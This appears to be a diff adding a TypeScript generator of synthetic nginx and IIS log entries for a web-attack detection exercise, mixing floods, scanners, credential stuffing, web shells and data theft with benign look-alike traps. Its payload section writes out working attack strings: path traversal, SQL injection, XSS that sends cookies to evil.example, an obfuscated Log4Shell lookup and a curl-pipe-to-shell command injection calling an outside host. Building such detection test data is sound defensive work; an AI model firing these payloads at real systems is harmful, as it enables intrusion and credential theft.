@@ -1,0 +1,184 @@
+// Round 4 (web) incidents and traps, each a few lines of a real attack's shape written over the
+// portal's day (see logs.ts). Attackers send browser user agents unless the tool would not.
+import { BROWSERS, DAY0, HOUR, MIN, SEC, rng, type Req, type WebSet } from './logs';
+
+const CHROME = BROWSERS[0]!;
+
+// ---------------------------------------------------------------- floods
+
+/** 400 addresses, each 20 requests a minute for 12 minutes, to `/?r=<random>`: no one source stands out. */
+export function distributedFlood(): Partial<WebSet> {
+  const r = rng(101);
+  const out: Req[] = [];
+  const start = DAY0 + 14 * HOUR + 5 * MIN;
+  for (let s = 0; s < 400; s++) {
+    const ip = `${[5, 31, 37, 46, 62, 77, 95, 178][s % 8]}.${(s * 7) % 200 + 20}.${(s * 13) % 250}.${(s % 250) + 1}`;
+    const ua = BROWSERS[s % BROWSERS.length]!;
+    for (let i = 0; i < 12 * 20; i++) out.push({ ts: start + i * 3 * SEC + Math.floor(r() * 3000), ip, url: `/?r=${Math.floor(r() * 1e6)}`, bytes: 31000, ua });
+  }
+  return { nginx: out };
+}
+
+/** One address at 55 requests a second for 3 minutes on the search page with a random query. */
+export function singleFlood(): Partial<WebSet> {
+  const r = rng(102);
+  const out: Req[] = [];
+  const start = DAY0 + 3 * HOUR + 20 * MIN;
+  for (let i = 0; i < 55 * 180; i++) out.push({ ts: start + Math.floor(i / 55) * SEC, ip: '185.225.73.18', url: `/search?q=${Math.floor(r() * 1e9).toString(36)}`, bytes: 18000, ua: CHROME });
+  return { nginx: out };
+}
+
+/** Slowloris: one address opening connections it never finishes; nginx logs each as 408 with no request line. */
+export function slowloris(): Partial<WebSet> {
+  const out: Req[] = [];
+  const start = DAY0 + 20 * HOUR;
+  for (let i = 0; i < 1500; i++) out.push({ ts: start + i * 2 * SEC, ip: '92.63.197.153', url: '', noRequest: true, status: 408, bytes: 0, ua: '-' });
+  return { nginx: out };
+}
+
+// ---------------------------------------------------------------- scanners
+
+const HIDDEN = [
+  '/.env', '/.env.bak', '/.env.production', '/.git/config', '/.git/HEAD', '/.svn/entries', '/.DS_Store', '/backup.zip', '/backup.tar.gz', '/site.tar.gz', '/db.sql', '/dump.sql',
+  '/wp-config.php.bak', '/wp-config.php~', '/config.php.old', '/.aws/credentials', '/.ssh/id_rsa', '/phpinfo.php', '/info.php', '/server-status', '/admin/', '/administrator/',
+  '/phpmyadmin/', '/pma/', '/adminer.php', '/.htpasswd', '/web.config', '/config.json', '/credentials.json', '/.npmrc', '/docker-compose.yml', '/.travis.yml', '/storage/logs/laravel.log',
+];
+const DIRS = ['', '/old', '/new', '/backup', '/bak', '/test', '/dev', '/staging', '/v1', '/v2', '/app', '/api', '/public', '/wordpress', '/wp', '/blog', '/site', '/cms', '/shop', '/admin'];
+export const hiddenPaths = (): string[] => DIRS.flatMap((d) => HIDDEN.map((h) => d + h));
+
+/** A browser-agent scanner, one missing path every 20 s for four hours at night. */
+export function slowScanner(): Partial<WebSet> {
+  const paths = hiddenPaths();
+  const out: Req[] = [];
+  for (let i = 0; i < 720; i++) out.push({ ts: DAY0 + 1 * HOUR + i * 20 * SEC, ip: '45.148.10.174', url: paths[i % paths.length]!, status: 404, bytes: 153, ua: BROWSERS[2] });
+  return { nginx: out };
+}
+
+/** The same list, fast: 600 paths in two minutes, still with a browser agent. */
+export function fastScanner(): Partial<WebSet> {
+  const paths = hiddenPaths();
+  const out: Req[] = [];
+  for (let i = 0; i < 600; i++) out.push({ ts: DAY0 + 16 * HOUR + Math.floor(i * 0.2 * SEC), ip: '162.243.146.27', url: paths[i]!, status: i === 3 ? 200 : 404, bytes: 153, ua: CHROME });
+  return { nginx: out };
+}
+
+// ---------------------------------------------------------------- payloads
+
+/** Evasive payloads, one attacker each, a handful of requests (the detector must see through the encoding). */
+export const PAYLOADS: Record<string, { ip: string; reqs: Omit<Req, 'ts' | 'ip'>[] }> = {
+  doubleEncodedTraversal: { ip: '103.77.192.11', reqs: [{ url: '/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd', status: 400 }] },
+  overlongUtf8: { ip: '103.77.192.12', reqs: [{ url: '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow', status: 400 }] },
+  tomcatBypass: { ip: '103.77.192.13', reqs: [{ url: '/docs/..;/manager/html', status: 401 }, { url: '/static/..;/..;/WEB-INF/web.xml', status: 404 }] },
+  versionedUnion: { ip: '103.77.192.14', reqs: [{ url: '/news?id=-1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,2,group_concat(username,0x3a,password),4%20FROM%20users--%20-', status: 500 }] },
+  timeBlind: {
+    ip: '103.77.192.15',
+    reqs: [
+      { url: "/products?id=4411'%20AND%20(SELECT%205723%20FROM%20(SELECT(SLEEP(5)))aBcD)--%20xyz" },
+      { url: '/products?id=4411;SELECT%20pg_sleep(5)--' },
+      { url: "/products?id=4411';WAITFOR%20DELAY%20'0:0:5'--" },
+    ],
+  },
+  xssHandlers: {
+    ip: '103.77.192.16',
+    reqs: [{ url: '/search?q=%3Cimg%20src%3Dx%20oNeRrOr%3Dconfirm(document.domain)%3E' }, { url: '/login?next=javascript:fetch(%27//evil.example%2F%27%2Bdocument.cookie)' }],
+  },
+  log4shellObfuscated: {
+    ip: '103.77.192.17',
+    reqs: [{ url: '/', ua: '${${lower:j}${::-n}${upper:d}${env:NaN:-i}:${lower:l}${::-d}${::-a}${::-p}://198.51.100.23:1389/Basic/Command/Base64/d2dldA==}' }],
+  },
+  spring4shell: {
+    ip: '103.77.192.18',
+    reqs: [{ method: 'POST', url: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', status: 200 }],
+  },
+  cmdInjection: {
+    ip: '103.77.192.19',
+    reqs: [{ url: '/cgi-bin/ping?host=127.0.0.1|id' }, { url: '/tools/lookup?domain=example.com%60id%60' }, { url: '/tools/lookup?domain=$(curl%20-s%20http://203.0.113.9/x.sh|sh)' }],
+  },
+  refererPayload: { ip: '103.77.192.20', reqs: [{ url: '/news', ref: "https://www.google.com/' UNION SELECT NULL,NULL,version()-- -" }] },
+};
+export function payloads(): Partial<WebSet> {
+  const out: Req[] = [];
+  let t = DAY0 + 10 * HOUR;
+  for (const { ip, reqs } of Object.values(PAYLOADS)) for (const q of reqs) out.push({ ts: (t += 37 * SEC), ip, status: 200, bytes: 3100, ua: CHROME, ...q });
+  return { nginx: out };
+}
+
+// ---------------------------------------------------------------- logins
+
+/** A rotating residential pool on the IIS site's JSON login API: 350 addresses, each 1 to 3 tries in 90 minutes, a few get in. */
+export function apiStuffing(): Partial<WebSet> {
+  const r = rng(103);
+  const out: Req[] = [];
+  for (let s = 0; s < 350; s++) {
+    const ip = `${[24, 67, 73, 98, 174][s % 5]}.${(s * 11) % 250}.${(s * 3) % 250}.${(s % 250) + 2}`;
+    const tries = 1 + (s % 3);
+    for (let k = 0; k < tries; k++) {
+      const win = s % 50 === 7 && k === tries - 1;
+      out.push({ ts: DAY0 + 2 * HOUR + Math.floor(r() * 90 * MIN), ip, method: 'POST', url: '/api/v1/auth/login', status: win ? 200 : 401, bytes: win ? 640 : 90, ua: BROWSERS[s % BROWSERS.length] });
+    }
+  }
+  return { iis: out };
+}
+
+/** WordPress xmlrpc system.multicall: 40 POSTs of hundreds of passwords each, every one answered 200. */
+export function xmlrpcMulticall(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 0; i < 40; i++) out.push({ ts: DAY0 + 5 * HOUR + i * 45 * SEC, ip: '194.180.48.62', method: 'POST', url: '/xmlrpc.php', status: 200, bytes: 120_000 + (i % 7) * 311, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0' });
+  return { nginx: out };
+}
+
+// ---------------------------------------------------------------- data theft
+
+/** An account's session paging through the whole export: 1,800 pages of 600 kB in 40 minutes. */
+export function bulkExport(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 1; i <= 1800; i++) out.push({ ts: DAY0 + 22 * HOUR + Math.floor(i * 1.3 * SEC), ip: '91.240.118.172', url: `/api/v1/export?page=${i}&per_page=500`, bytes: 600_000 + (i % 13) * 1000, ua: 'python-requests/2.32.3' });
+  return { nginx: out };
+}
+
+/** Insecure direct object references: 3,000 consecutive user ids, each a 200 with a profile. */
+export function idorWalk(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 0; i < 3000; i++) out.push({ ts: DAY0 + 13 * HOUR + i * 2 * SEC, ip: '38.180.22.96', url: `/api/v1/users/${10_000 + i}`, status: i % 9 === 0 ? 404 : 200, bytes: 1800 + (i % 17) * 11, ua: CHROME, ref: 'https://portal.example.org/account/settings' });
+  return { nginx: out };
+}
+
+/** A web shell dropped in the uploads folder, driven by POSTs for an hour. */
+export function webshell(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 0; i < 60; i++) out.push({ ts: DAY0 + 23 * HOUR + i * 55 * SEC, ip: '141.98.10.63', method: 'POST', url: '/wp-content/uploads/2026/10/wp-cache-ctl.php', status: 200, bytes: 40 + (i * 37) % 900, ua: CHROME });
+  return { nginx: out };
+}
+
+/** The same on IIS: an .aspx in an upload folder answered 200. */
+export function iisWebshell(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 0; i < 30; i++) out.push({ ts: DAY0 + 21 * HOUR + i * 70 * SEC, ip: '45.9.20.101', method: 'POST', url: '/App_Data/uploads/help.aspx', status: 200, bytes: 300 + i * 5 });
+  return { iis: out };
+}
+
+// ---------------------------------------------------------------- traps
+
+/** A person searching for text with SQL and markup words in it. */
+export function innocentSearches(): Partial<WebSet> {
+  const out: Req[] = [];
+  const qs = ['select+a+hotel+near+union+station', 'how+to+drop+a+course', 'union+station+parking', 'i+%3C3+this+portal', 'select+all+from+last+week', 'drop+down+menu+not+working', "o'brien+and+sons+order", 'where+is+order+by+date'];
+  qs.forEach((q, i) => out.push({ ts: DAY0 + 11 * HOUR + i * 40 * SEC, ip: '87.123.45.67', url: `/search?q=${q}`, bytes: 22000, ua: BROWSERS[1], ref: 'https://portal.example.org/' }));
+  return { nginx: out };
+}
+
+/** A browser opening a gallery: 180 images in one minute, referred by the page. */
+export function galleryBrowser(): Partial<WebSet> {
+  const out: Req[] = [];
+  const t = DAY0 + 12 * HOUR;
+  out.push({ ts: t, ip: '80.187.100.12', url: '/news/2026/11/event-photos', bytes: 40000, ua: BROWSERS[3] });
+  for (let i = 0; i < 180; i++) out.push({ ts: t + 300 + i * 300, ip: '80.187.100.12', url: `/img/events/2026-11/photo-${i + 1}.jpg`, bytes: 180000, ua: BROWSERS[3], ref: 'https://portal.example.org/news/2026/11/event-photos' });
+  return { nginx: out };
+}
+
+/** An admin's monthly export from the office: a few large files. */
+export function adminExport(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let i = 0; i < 4; i++) out.push({ ts: DAY0 + 9 * HOUR + i * 3 * MIN, ip: '10.0.3.40', url: `/api/export?report=${['orders', 'customers', 'invoices', 'refunds'][i]}&format=csv`, bytes: 25_000_000, ua: BROWSERS[0], ref: 'https://portal.example.org/admin/reports' });
+  return { nginx: out };
+}
